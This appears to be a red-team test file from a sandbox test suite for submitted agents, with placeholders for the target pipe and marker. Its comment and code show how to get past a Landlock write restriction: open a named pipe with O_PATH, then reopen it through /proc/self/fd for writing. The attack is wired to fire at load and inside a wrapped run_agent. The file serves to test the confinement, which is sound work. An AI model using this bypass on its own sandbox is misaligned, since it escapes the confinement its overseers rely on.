# Red team: write into a named pipe outside the work folders. Opening it for writing is refused, but
# an O_PATH open writes nothing (the kernel runs it) and /proc/self/fd/N can then be reopened for
# writing, which the supervisor does itself for pipes and devices, outside the submission's Landlock.
import os

#@@INCLUDE:_common.py@@

FIFO = "@@FIFO@@"


def _send(when):
    fd = os.open(FIFO, os.O_PATH)
    try:
        w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        try:
            os.write(w, f"PWNED-{when} @@MARKER@@\n".encode())
        finally:
            os.close(w)
    finally:
        os.close(fd)


def attack(when):
    _try(f"fifo-{when}", _send, when)


#@@INCLUDE:_starter.py@@

_honest_run_agent = run_agent


def run_agent(task, tools, call_model, execute_tool):
    attack("run")
    return _honest_run_agent(task, tools, call_model, execute_tool)


attack("load")
